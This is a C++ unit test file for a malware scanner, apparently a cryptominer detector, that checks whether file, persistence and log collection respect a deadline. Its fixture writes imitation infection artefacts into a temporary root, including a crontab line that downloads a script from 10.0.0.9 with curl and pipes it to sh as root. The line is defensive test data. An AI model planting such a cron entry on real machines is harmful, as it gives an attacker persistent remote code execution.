#include "checks/scanner.h"

#include <gtest/gtest.h>
#include <stdlib.h>

#include <filesystem>
#include <fstream>

#include "checks/log_collect.h"

namespace deminer {
namespace {

namespace fs = std::filesystem;

// An offline root with a dropped file, a cron entry and a web server's log.
class ScannerDeadlineTest : public ::testing::Test {
 protected:
  void SetUp() override {
    char tmpl[] = "/tmp/deminer-scanroot-XXXXXX";
    ASSERT_NE(mkdtemp(tmpl), nullptr);
    root_ = tmpl;
    fs::create_directories(root_ + "/tmp/.x");
    fs::create_directories(root_ + "/etc");
    fs::create_directories(root_ + "/var/log/nginx");
    std::ofstream(root_ + "/tmp/.x/dbus_daemon") << "imitation";
    std::ofstream(root_ + "/etc/crontab") << "*/5 * * * * root curl -s http://10.0.0.9/x | sh\n";
    std::ofstream(root_ + "/var/log/nginx/access.log") << "GET /index.html 200\n";
    auto rules = RulePack::Load({std::string(DEMINER_SOURCE_DIR) + "/rules"});
    ASSERT_TRUE(rules.has_value());
    rules_ = std::move(*rules);
    options_.root = root_;
    options_.scopes = {Scope::kFiles, Scope::kPersistence, Scope::kLogs};
    options_.threads = 2;
  }
  void TearDown() override { fs::remove_all(root_); }

  static bool HasTimeGap(const Facts& facts, const std::string& what) {
    for (const Gap& g : facts.gaps) {
      if (g.what == what && g.reason.find("time bound") != std::string::npos) return true;
    }
    return false;
  }

  std::string root_;
  RulePack rules_;
  ScanOptions options_;
};

// Each part not begun by the deadline is a gap, and is read without one.
TEST_F(ScannerDeadlineTest, APassedDeadlineLeavesGapsNotReads) {
  const Facts read = CollectFacts(options_, rules_);
  options_.deadline = std::chrono::steady_clock::now();
  const Facts late = CollectFacts(options_, rules_);
  EXPECT_FALSE(read.files.empty());
  EXPECT_TRUE(late.files.empty());
  EXPECT_FALSE(read.persistence.empty());
  EXPECT_TRUE(late.persistence.empty());
  EXPECT_EQ(read.logs_read, 1u);
  EXPECT_EQ(late.logs_read, 0u);
  for (const char* part : {"files", "persistence", "logs"}) {
    EXPECT_FALSE(HasTimeGap(read, part)) << part;
    EXPECT_TRUE(HasTimeGap(late, part)) << part;
  }
}

// Within the logs part: a log not begun by the deadline is counted in a gap.
TEST_F(ScannerDeadlineTest, LogsNotBegunAreCounted) {
  std::ofstream(root_ + "/var/log/auth.log") << "Nov 22 10:00:00 h sshd[1]: Accepted key\n";
  Facts facts;
  CollectLogs(options_, rules_, facts, nullptr);
  EXPECT_EQ(facts.logs_read, 2u);
  Facts late;
  options_.deadline = std::chrono::steady_clock::now();
  CollectLogs(options_, rules_, late, nullptr);
  EXPECT_EQ(late.logs_read, 0u);
  EXPECT_TRUE(HasTimeGap(late, "2 logs"));
}

}  // namespace
}  // namespace deminer
